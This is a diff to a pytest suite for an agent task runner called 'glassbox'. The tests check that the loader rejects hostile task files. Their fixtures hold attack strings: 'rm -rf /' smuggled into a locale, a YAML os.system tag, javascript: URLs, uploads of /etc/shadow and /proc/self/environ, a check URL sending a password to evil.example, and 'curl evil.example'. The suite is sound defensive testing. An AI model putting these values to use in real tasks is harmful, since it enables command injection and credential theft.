@@ -80,14 +80,24 @@ CASES = [
     append("deep-flow-map", "deep: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n", ("nested more than",)),
     append("deep-block", "deep:\n" + "".join(" " * i + "- \n" for i in range(1, 200)), ("nested more than",), None),
     append("too-many-aliases", "x: &x 1\nmany: [" + ", ".join(["*x"] * 400) + "]\n", ("aliases",), 17),
-    edit("duplicate-secret-key", "  password: {value: pw-123, secret: true}\n",
-         "  password: {value: pw-123, secret: true}\n  password: pw-123\n", ("inputs.password", "duplicate key"), 6),
+    edit(
+        "duplicate-secret-key",
+        "  password: {value: pw-123, secret: true}\n",
+        "  password: {value: pw-123, secret: true}\n  password: pw-123\n",
+        ("inputs.password", "duplicate key"),
+        6,
+    ),
     append("duplicate-top-key", "name: again\n", ("name", "duplicate key 'name' (first on line 1)")),
     edit("huge-integer", "max_steps: 5", "max_steps: 1" + "0" * 5000, ("cannot be read", "digits"), None),
     edit("nul-in-file-path", "{path: photo.png}", '{path: "photo\\0.png"}', ("files.photo.path", "NUL"), 8),
     edit("nul-in-goal", "goal: Note {note} and sign in with {password}", 'goal: "Note \\0 {note}"', ("goal", "NUL"), 2),
-    edit("python-tag", "goal: Note {note} and sign in with {password}", 'goal: !!python/object/apply:os.system ["id"]',
-         ("not valid YAML", "constructor"), 2),
+    edit(
+        "python-tag",
+        "goal: Note {note} and sign in with {password}",
+        'goal: !!python/object/apply:os.system ["id"]',
+        ("not valid YAML", "constructor"),
+        2,
+    ),
     Case("not-a-mapping", "- a\n- b\n", ("must be a mapping",), 1),
     Case("empty-file", "", ("must be a mapping",), 1),
     append("two-documents", "---\nname: other\n", ("single document",), None),
@@ -100,50 +110,91 @@ CASES = [
     edit("scale-zero", "device_scale_factor: 1", "device_scale_factor: 0", ("browser.device_scale_factor",), 12),
     edit("scale-huge", "device_scale_factor: 1", "device_scale_factor: 1000", ("browser.device_scale_factor",), 12),
     edit("scale-nan", "device_scale_factor: 1", "device_scale_factor: .nan", ("browser.device_scale_factor",), 12),
-    edit("screen-too-large", "viewport: [1280, 800], device_scale_factor: 1",
-         "viewport: [4096, 4096], device_scale_factor: 4", ("browser", "8192 pixels"), 12),
+    edit(
+        "screen-too-large",
+        "viewport: [1280, 800], device_scale_factor: 1",
+        "viewport: [4096, 4096], device_scale_factor: 4",
+        ("browser", "8192 pixels"),
+        12,
+    ),
     edit("locale-injection", "locale: en-US", "locale: 'en; rm -rf /'", ("browser.locale",), 12),
     edit("locale-empty", "locale: en-US", "locale: ''", ("browser.locale",), 12),
-    edit("timezone-unknown", "timezone: UTC", "timezone: Mars/Olympus_Mons", ("browser.timezone", "unknown time zone"),
-         12),
+    edit("timezone-unknown", "timezone: UTC", "timezone: Mars/Olympus_Mons", ("browser.timezone", "unknown time zone"), 12),
     edit("timezone-path", "timezone: UTC", "timezone: ../../etc/passwd", ("browser.timezone",), 12),
-    edit("settle-timeout-huge", "timezone: UTC}", "timezone: UTC, settle_timeout_ms: 1000000000000}",
-         ("browser.settle_timeout_ms",), 12),
-    edit("action-timeout-zero", "timezone: UTC}", "timezone: UTC, action_timeout_ms: 0}",
-         ("browser.action_timeout_ms",), 12),
+    edit(
+        "settle-timeout-huge",
+        "timezone: UTC}",
+        "timezone: UTC, settle_timeout_ms: 1000000000000}",
+        ("browser.settle_timeout_ms",),
+        12,
+    ),
+    edit("action-timeout-zero", "timezone: UTC}", "timezone: UTC, action_timeout_ms: 0}", ("browser.action_timeout_ms",), 12),
     edit("budget-infinite", "time_budget_s: 30", "time_budget_s: .inf", ("limits.time_budget_s",), 11),
     edit("budget-zero", "time_budget_s: 30", "time_budget_s: 0", ("limits.time_budget_s",), 11),
     edit("budget-year", "time_budget_s: 30", "time_budget_s: 31536000", ("limits.time_budget_s",), 11),
     edit("max-steps-huge", "max_steps: 5", "max_steps: 100000000", ("limits.max_steps",), 11),
-    edit("max-errors-huge", "max_consecutive_errors: 2", "max_consecutive_errors: 1000000000",
-         ("limits.max_consecutive_errors",), 11),
-    edit("layout-seed-huge", 'target: {start_url: "http://127.0.0.1:9/start"}',
-         "target: {site: shop, layout_seed: 1180591620717411303424}", ("target.layout_seed",), 6),
-    edit("layout-seed-negative", 'target: {start_url: "http://127.0.0.1:9/start"}',
-         "target: {site: shop, layout_seed: -1}", ("target.layout_seed",), 6),
-    edit("site-path-escapes", 'target: {start_url: "http://127.0.0.1:9/start"}',
-         'target: {site: shop, path: "@evil.example/"}', ("target.path",), 6),
+    edit(
+        "max-errors-huge",
+        "max_consecutive_errors: 2",
+        "max_consecutive_errors: 1000000000",
+        ("limits.max_consecutive_errors",),
+        11,
+    ),
+    edit(
+        "layout-seed-huge",
+        'target: {start_url: "http://127.0.0.1:9/start"}',
+        "target: {site: shop, layout_seed: 1180591620717411303424}",
+        ("target.layout_seed",),
+        6,
+    ),
+    edit(
+        "layout-seed-negative",
+        'target: {start_url: "http://127.0.0.1:9/start"}',
+        "target: {site: shop, layout_seed: -1}",
+        ("target.layout_seed",),
+        6,
+    ),
+    edit(
+        "site-path-escapes",
+        'target: {start_url: "http://127.0.0.1:9/start"}',
+        'target: {site: shop, path: "@evil.example/"}',
+        ("target.path",),
+        6,
+    ),
     append("policy-timeout-infinite", "policy: {timeout_s: .inf}\n", ("policy.timeout_s",)),
     append("policy-temperature-huge", "policy: {temperature: 1000000000}\n", ("policy.temperature",)),
     append("policy-seed-huge", "policy: {seed: 36893488147419103232}\n", ("policy.seed",)),
     append("policy-seed-negative", "policy: {seed: -1}\n", ("policy.seed",)),
     append("policy-max-tokens-huge", "policy: {max_new_tokens: 10000000000}\n", ("policy.max_new_tokens",)),
     edit("start-url-javascript", '"http://127.0.0.1:9/start"', '"javascript:alert(1)"', ("target.start_url",), 6),
-    edit("start-url-userinfo", '"http://127.0.0.1:9/start"', '"http://user:pw@127.0.0.1:9/start"',
-         ("target.start_url", "user name"), 6),
-    edit("start-url-bad-port", '"http://127.0.0.1:9/start"', '"http://127.0.0.1:99999/start"',
-         ("target.start_url", "port"), 6),
+    edit(
+        "start-url-userinfo",
+        '"http://127.0.0.1:9/start"',
+        '"http://user:pw@127.0.0.1:9/start"',
+        ("target.start_url", "user name"),
+        6,
+    ),
+    edit("start-url-bad-port", '"http://127.0.0.1:9/start"', '"http://127.0.0.1:99999/start"', ("target.start_url", "port"), 6),
     # -- inputs
-    edit("unset-env-secret", "{value: pw-123, secret: true}", "{env: GLASSBOX_HOSTILE_UNSET_VAR, secret: true}",
-         ("inputs.password.env", "GLASSBOX_HOSTILE_UNSET_VAR is not set"), 5),
+    edit(
+        "unset-env-secret",
+        "{value: pw-123, secret: true}",
+        "{env: GLASSBOX_HOSTILE_UNSET_VAR, secret: true}",
+        ("inputs.password.env", "GLASSBOX_HOSTILE_UNSET_VAR is not set"),
+        5,
+    ),
     # -- files a task may upload
-    edit("upload-etc-shadow", "{path: photo.png}", "{path: /etc/shadow}", ("files.photo.path", "outside the task's folder",
-                                                                         "--files-root"), 8),
+    edit(
+        "upload-etc-shadow",
+        "{path: photo.png}",
+        "{path: /etc/shadow}",
+        ("files.photo.path", "outside the task's folder", "--files-root"),
+        8,
+    ),
     edit("upload-etc-passwd", "{path: photo.png}", "{path: /etc/passwd}", ("files.photo.path", "outside"), 8),
     edit("upload-proc-environ", "{path: photo.png}", "{path: /proc/self/environ}", ("files.photo.path", "outside"), 8),
     edit("upload-dotdot", "{path: photo.png}", "{path: ../outside.png}", ("files.photo.path", "outside"), 8),
-    edit("upload-symlink-out", "{path: photo.png}", "{path: link-out.png}", ("files.photo.path", "resolves to",
-                                                                           "outside"), 8),
+    edit("upload-symlink-out", "{path: photo.png}", "{path: link-out.png}", ("files.photo.path", "resolves to", "outside"), 8),
     edit("upload-symlink-dev-zero", "{path: photo.png}", "{path: zero.png}", ("files.photo.path", "outside"), 8),
     edit("upload-dev-zero", "{path: photo.png}", "{path: /dev/zero}", ("files.photo.path", "outside"), 8),
     edit("upload-folder", "{path: photo.png}", "{path: .}", ("files.photo.path", "not a regular file"), 8),
@@ -158,20 +209,50 @@ CASES = [
     append("origin-userinfo", "allowed_origins: ['https://u:p@ok.example']\n", ("allowed_origins[0]", "user name")),
     append("origin-bad-port", "allowed_origins: ['https://ok.example:70000']\n", ("allowed_origins[0]", "port")),
     append("origin-null", "allowed_origins: ['https://ok.example', 'null']\n", ("allowed_origins[1]",)),
-    edit("goto-javascript", "  - {action: terminate, status: success}", "  - {action: goto_url, url: 'javascript:alert(1)'}",
-         ("script[1]", "javascript"), 15),
-    edit("goto-protocol-relative", "  - {action: terminate, status: success}",
-         "  - {action: goto_url, url: '//evil.example/x'}", ("script[1].url", "outside allowed_origins"), 15),
-    edit("check-foreign-host", "{type: text_present, text: done}",
-         "{type: http_json, url: 'https://evil.example/?p={password}', match: {a: 1}}", ("checks[0].url",), 10),
-    edit("check-host-from-input", "{type: text_present, text: done}",
-         "{type: http_json, url: '{note}/api', match: {a: 1}}", ("checks[0].url",), 10),
+    edit(
+        "goto-javascript",
+        "  - {action: terminate, status: success}",
+        "  - {action: goto_url, url: 'javascript:alert(1)'}",
+        ("script[1]", "javascript"),
+        15,
+    ),
+    edit(
+        "goto-protocol-relative",
+        "  - {action: terminate, status: success}",
+        "  - {action: goto_url, url: '//evil.example/x'}",
+        ("script[1].url", "outside allowed_origins"),
+        15,
+    ),
+    edit(
+        "check-foreign-host",
+        "{type: text_present, text: done}",
+        "{type: http_json, url: 'https://evil.example/?p={password}', match: {a: 1}}",
+        ("checks[0].url",),
+        10,
+    ),
+    edit(
+        "check-host-from-input",
+        "{type: text_present, text: done}",
+        "{type: http_json, url: '{note}/api', match: {a: 1}}",
+        ("checks[0].url",),
+        10,
+    ),
     # -- programs from elsewhere
-    edit("desktop-program", 'target: {start_url: "http://127.0.0.1:9/start"}\n', DESKTOP,
-         ("desktop.command", "starts a program", "touch /tmp/pwned", "--allow-programs"), None),
-    Case("command-check", BASE.replace('target: {start_url: "http://127.0.0.1:9/start"}\n', DESKTOP)
-         .replace("{type: text_present, text: done}", "{type: command, argv: [curl, evil.example]}"),
-         ("checks[0].argv", "starts a program (curl evil.example)", "--allow-programs"), 11),
+    edit(
+        "desktop-program",
+        'target: {start_url: "http://127.0.0.1:9/start"}\n',
+        DESKTOP,
+        ("desktop.command", "starts a program", "touch /tmp/pwned", "--allow-programs"),
+        None,
+    ),
+    Case(
+        "command-check",
+        BASE.replace('target: {start_url: "http://127.0.0.1:9/start"}\n', DESKTOP).replace(
+            "{type: text_present, text: done}", "{type: command, argv: [curl, evil.example]}"
+        ),
+        ("checks[0].argv", "starts a program (curl evil.example)", "--allow-programs"),
+        11,
+    ),
 ]
 
 
@@ -228,10 +309,15 @@ def test_hostile_task_file_exits_2_naming_file_field_and_line(task_dir, case, mo
 def test_duplicate_password_key_never_drops_secret_through_the_real_cli(task_dir):
     """The installed `glassbox` entry point, as a user runs it."""
     path = task_dir / "task.yaml"
-    path.write_text(BASE.replace("  password: {value: pw-123, secret: true}\n",
-                                 "  password: {value: pw-123, secret: true}\n  password: pw-123\n"), encoding="utf-8")
-    result = subprocess.run([GLASSBOX, "run", str(path), "--runs-dir", str(task_dir / "runs")],
-                            capture_output=True, text=True, timeout=60)
+    path.write_text(
+        BASE.replace(
+            "  password: {value: pw-123, secret: true}\n", "  password: {value: pw-123, secret: true}\n  password: pw-123\n"
+        ),
+        encoding="utf-8",
+    )
+    result = subprocess.run(
+        [GLASSBOX, "run", str(path), "--runs-dir", str(task_dir / "runs")], capture_output=True, text=True, timeout=60
+    )
     assert result.returncode == 2, result.stderr
     assert f"{path}: line 6: inputs.password: duplicate key 'password' (first on line 5)" in result.stderr
     assert "Traceback" not in result.stderr
@@ -291,14 +377,18 @@ def test_alias_bomb_is_refused_within_bounded_memory(tmp_path):
 def test_valid_yaml_features_still_load(task_dir, monkeypatch):
     """Merge keys are not duplicates, an environment secret loads when set, origins are normalised."""
     path = task_dir / "task.yaml"
-    path.write_text(BASE.replace("{value: pw-123, secret: true}", "{env: GLASSBOX_HOSTILE_PW, secret: true}")
-                    + "allowed_origins: ['HTTPS://Ok.Example/', 'http://[::1]:8080']\n", encoding="utf-8")
+    path.write_text(
+        BASE.replace("{value: pw-123, secret: true}", "{env: GLASSBOX_HOSTILE_PW, secret: true}")
+        + "allowed_origins: ['HTTPS://Ok.Example/', 'http://[::1]:8080']\n",
+        encoding="utf-8",
+    )
     monkeypatch.setenv("GLASSBOX_HOSTILE_PW", "from-env")
     task = load_task(path)
     assert task.secret_values() == {"password": "from-env"}
     assert task.allowed_origins == ["https://ok.example", "http://[::1]:8080"]
     merged = task_dir / "merged.yaml"
-    merged.write_text(textwrap.dedent("""\
+    merged.write_text(
+        textwrap.dedent("""\
         name: m
         goal: g
         target: {start_url: "http://127.0.0.1:9/"}
@@ -308,16 +398,22 @@ def test_valid_yaml_features_still_load(task_dir, monkeypatch):
           - &click {action: left_click, coordinate: [1, 2]}
           - *click
           - {<<: *click, coordinate: [3, 4]}
-        """), encoding="utf-8")
+        """),
+        encoding="utf-8",
+    )
     task = load_task(merged)
     assert [s.arguments()["coordinate"] for s in task.script or []] == [[1, 2], [1, 2], [3, 4]]
 
 
 def test_relative_goto_url_loads_and_resolves_against_the_target(task_dir):
     path = task_dir / "task.yaml"
-    path.write_text(BASE.replace("  - {action: terminate, status: success}",
-                                 "  - {action: goto_url, url: 'other?x=1'}\n  - {action: goto_url, url: /start}"),
-                    encoding="utf-8")
+    path.write_text(
+        BASE.replace(
+            "  - {action: terminate, status: success}",
+            "  - {action: goto_url, url: 'other?x=1'}\n  - {action: goto_url, url: /start}",
+        ),
+        encoding="utf-8",
+    )
     task = load_task(path)
     assert [s.arguments().get("url") for s in task.script or []] == [None, "other?x=1", "/start"]
     for bad in ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "http:/no-host", "http://h:99999/"):
@@ -400,18 +496,21 @@ def test_files_root_upload_runs_end_to_end(tmp_path, pages):
     suite = tmp_path / "suite"
     suite.mkdir()
     path = suite / "upload.yaml"
-    path.write_text(textwrap.dedent(f"""\
+    path.write_text(
+        textwrap.dedent(f"""\
         name: upload-from-root
         goal: Attach the photo
         target: {{start_url: "{pages}/start"}}
         files:
-          photo: {{path: {assets / 'photo.png'}}}
+          photo: {{path: {assets / "photo.png"}}}
         checks:
           - {{type: js, expression: "document.querySelector('#f').files[0].name === 'photo.png'"}}
         script:
           - {{action: upload_file, file: photo, target: {{selector: "#f"}}}}
           - {{action: terminate, status: success}}
-        """), encoding="utf-8")
+        """),
+        encoding="utf-8",
+    )
     code, output = run_cli("run", str(path), "--runs-dir", str(tmp_path / "runs"))
     assert code == 2 and "outside the task's folder" in output
     code, output = run_cli("run", str(path), "--runs-dir", str(tmp_path / "runs"), "--files-root", str(assets))
@@ -425,7 +524,8 @@ def test_program_is_announced_before_it_runs_and_needs_the_flag(tmp_path):
     require_xvfb()
     marker = tmp_path / "ran"
     path = tmp_path / "program.yaml"
-    path.write_text(textwrap.dedent(f"""\
+    path.write_text(
+        textwrap.dedent(f"""\
         name: starts-a-program
         goal: Nothing
         environment: desktop
@@ -435,13 +535,20 @@ def test_program_is_announced_before_it_runs_and_needs_the_flag(tmp_path):
           - {{type: command, argv: ["{{python}}", -c, "import os, sys; sys.exit(not os.path.exists('{marker}'))"]}}
         script:
           - {{action: terminate, status: success}}
-        """), encoding="utf-8")
-    refused = subprocess.run([GLASSBOX, "run", str(path), "--runs-dir", str(tmp_path / "runs")],
-                             capture_output=True, text=True, timeout=120)
+        """),
+        encoding="utf-8",
+    )
+    refused = subprocess.run(
+        [GLASSBOX, "run", str(path), "--runs-dir", str(tmp_path / "runs")], capture_output=True, text=True, timeout=120
+    )
     assert refused.returncode == 2 and "--allow-programs" in refused.stderr
     assert not marker.exists() and not (tmp_path / "runs").exists()
-    allowed = subprocess.run([GLASSBOX, "run", str(path), "--runs-dir", str(tmp_path / "runs"), "--allow-programs"],
-                             capture_output=True, text=True, timeout=120)
+    allowed = subprocess.run(
+        [GLASSBOX, "run", str(path), "--runs-dir", str(tmp_path / "runs"), "--allow-programs"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert allowed.returncode == 0, allowed.stdout + allowed.stderr
     assert marker.exists()
     said = " ".join(allowed.stderr.split())
@@ -474,7 +581,8 @@ def test_one_megabyte_of_typing_is_cut_off_by_the_time_budget(tmp_path, pages):
     from tracer import RunStatus, read_steps
 
     path = tmp_path / "typing.yaml"
-    path.write_text(textwrap.dedent(f"""\
+    path.write_text(
+        textwrap.dedent(f"""\
         name: long-typing
         goal: Type the text
         inputs:
@@ -487,7 +595,9 @@ def test_one_megabyte_of_typing_is_cut_off_by_the_time_budget(tmp_path, pages):
           - {{action: left_click, target: {{selector: "#t"}}}}
           - {{action: type, text: "{{text}}"}}
           - {{action: terminate, status: success}}
-        """), encoding="utf-8")
+        """),
+        encoding="utf-8",
+    )
     task = load_task(path)
     task.inputs["text"] = InputSpec(value="a" * 1_000_000)  # a file may not hold 1 MB; the API may
     result = run_task(task, runs_dir=tmp_path / "runs")
@@ -497,8 +607,11 @@ def test_one_megabyte_of_typing_is_cut_off_by_the_time_budget(tmp_path, pages):
     typing = read_steps(result.run_dir)[1]
     assert typing.action is not None and typing.action["action"] == "type"
     assert typing.outcome == "error" and typing.error_kind == "executor"
-    match = re.fullmatch(r"cut off: the run's time budget ran out while typing \(([\d,]+) of 1,000,000 characters "
-                         r"typed\)", typing.error or "")
+    match = re.fullmatch(
+        r"cut off: the run's time budget ran out while typing \(([\d,]+) of 1,000,000 characters "
+        r"typed\)",
+        typing.error or "",
+    )
     assert match, typing.error
     assert 0 < int(match.group(1).replace(",", "")) < 1_000_000
 
@@ -527,14 +640,16 @@ def test_an_env_input_is_secret_unless_it_says_otherwise(tmp_path, monkeypatch):
     # A task naming OPENAI_API_KEY as a plain input would otherwise put the key into the goal, prompts and records.
     monkeypatch.setenv("GB_TEST_KEY", "sk-live-0123456789abcdef")
     monkeypatch.setenv("GB_TEST_USER", "alice")
-    (tmp_path / "t.yaml").write_text(textwrap.dedent("""\
+    (tmp_path / "t.yaml").write_text(
+        textwrap.dedent("""\
         name: env-inputs
         goal: sign in as {user} with key {key}
         inputs:
           key: {env: GB_TEST_KEY}
           user: {env: GB_TEST_USER, secret: false}
         target: {start_url: "http://127.0.0.1:1/"}
-        """))
+        """)
+    )
     task = load_task(tmp_path / "t.yaml")
     assert task.secret_values() == {"key": "sk-live-0123456789abcdef"}
     assert task.goal_text() == "sign in as alice with key <secret>key</secret>"
